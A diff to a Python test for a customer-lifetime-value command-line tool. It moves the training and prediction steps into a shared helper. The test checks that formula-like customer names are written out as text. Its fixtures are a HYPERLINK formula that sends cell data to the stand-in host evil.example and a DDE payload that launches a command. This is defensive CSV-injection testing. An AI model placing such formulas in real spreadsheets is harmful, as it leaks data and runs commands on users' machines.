@@ -7,6 +7,8 @@ import csv
 
 import pandas as pd
 
+from tests.scoring.test_cli import clv_train_and_predict
+
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Invoice")'
 
 
@@ -34,14 +36,7 @@ def test_a_customer_named_like_a_formula_is_written_as_text_by_clv_predict(csvs,
     tx.loc[tx["cust"] == str(first), "cust"] = EVIL
     tx.loc[tx.index[-1], "cust"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     tx.to_csv(csvs["tx"], index=False)
-    out = tmp_path / "clv"
-    res = run("clv", "train", "--transactions", str(csvs["tx"]), "--customer-column", "cust", "--date-column",
-              "when", "--amount-column", "spend", "--cutoff", "2024-06-30", "--horizon-days", "180", "--out", str(out))
-    assert res.exit_code == 0, res.stderr
-    preds = tmp_path / "c.csv"
-    res = run("clv", "predict", "--model", str(out), "--transactions", str(csvs["tx"]), "--cutoff", "2024-06-30",
-              "--out", str(preds))
-    assert res.exit_code == 0, res.stderr
+    _, preds = clv_train_and_predict(csvs, tmp_path, run)
     cells = _cells(preds)
     assert "'" + EVIL in cells  # kept, readable, as text
     assert not [c for c in cells if _is_formula(c)]
